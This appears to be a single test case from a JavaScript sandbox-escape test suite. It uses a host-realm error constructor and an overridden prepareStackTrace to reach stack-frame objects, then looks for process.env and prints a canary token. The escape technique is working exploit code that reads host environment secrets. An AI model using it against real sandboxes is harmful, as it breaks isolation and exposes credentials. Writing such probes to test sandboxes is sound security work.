// id: js-n-140 | family: escape | goal: an error of the host realm and its prepareStackTrace
// timeout: 5
try { Buffer.from(5); } catch (e) { const E = e.constructor; try { E.prepareStackTrace = (_, s) => s.map((f) => { try { return f.getThis(); } catch { } }); const s = new E('x').stack; console.log(typeof s, s?.length); for (const PX of s || []) if (PX?.process?.env) console.log('ESC' + 'APED_@@NONCE@@', PX.process.env.CANARY_TOKEN); } catch (x) { console.log(String(x)); } }
